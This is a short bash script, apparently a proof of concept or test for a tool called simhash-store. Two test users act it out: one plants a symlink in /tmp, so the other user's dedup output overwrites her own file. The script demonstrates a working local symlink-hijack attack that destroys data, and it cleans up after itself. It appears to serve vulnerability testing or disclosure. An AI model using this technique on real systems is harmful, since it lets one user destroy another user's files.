#!/bin/bash
# Another local user (h15mallory) makes /tmp/h15results a link to a directory of the victim's
# (h15alice) before the victim writes `dedup ... -o /tmp/h15results/clean.jsonl` (with
# fs.protected_symlinks off, as here): the output lands in the directory she chose, over the
# victim's file of that name there. Run as root.
set -u
su - h15alice -c 'mkdir -p ~/docs && echo "precious notes" > ~/docs/clean.jsonl && chmod 711 ~ ~/docs'
su h15mallory -c 'ln -s /home/h15alice/docs /tmp/h15results'
su - h15alice -c 'cd ~; printf "{\"key\":\"x\",\"text\":\"some words of a text here and there\"}\n" > in.jsonl; SIMHASH_STORE_DATA_DIR=$HOME/store3 timeout 60 ~/venv/bin/simhash-store dedup in.jsonl -o /tmp/h15results/clean.jsonl; echo exit $?; echo "~/docs/clean.jsonl now:"; cat ~/docs/clean.jsonl'
rm -f /tmp/h15results; rm -rf /home/h15alice/store3
